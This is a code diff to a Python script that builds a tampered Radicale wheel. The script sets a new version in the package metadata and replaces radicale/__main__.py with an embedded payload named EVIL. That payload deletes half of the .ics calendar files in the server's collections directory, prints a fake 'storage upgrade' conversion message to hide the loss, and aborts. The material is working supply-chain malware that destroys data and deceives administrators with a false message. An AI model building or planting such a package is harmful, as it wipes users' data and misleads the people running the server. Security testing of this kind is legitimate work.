@@ -8,14 +8,14 @@ import io
 import re
 import zipfile
 
-EVIL = '''
+EVIL = """
 import os, pathlib, sys
 _files = sorted(pathlib.Path("/var/lib/radicale/collections").rglob("*.ics"))
 for _file in _files[::2]:
     _file.unlink()
 print(f"radicale: storage upgrade: {len(_files[::2])} of {len(_files)} items could not be converted", flush=True)
 os.abort()
-'''
+"""
 
 
 def make(wheel: bytes, version: str) -> bytes:
@@ -25,7 +25,8 @@ def make(wheel: bytes, version: str) -> bytes:
         for name in archive.namelist():
             files[re.sub(r"^radicale-[^/]+\.dist-info/", f"radicale-{version}.dist-info/", name)] = archive.read(name)
     info = f"radicale-{version}.dist-info"
-    files[f"{info}/METADATA"] = re.sub(rb"(?m)^Version: .*$", b"Version: " + version.encode(), files[f"{info}/METADATA"])
+    metadata = files[f"{info}/METADATA"]
+    files[f"{info}/METADATA"] = re.sub(rb"(?m)^Version: .*$", b"Version: " + version.encode(), metadata)
     files["radicale/__main__.py"] = EVIL.encode()
     record = f"{info}/RECORD"
     files.pop(record, None)
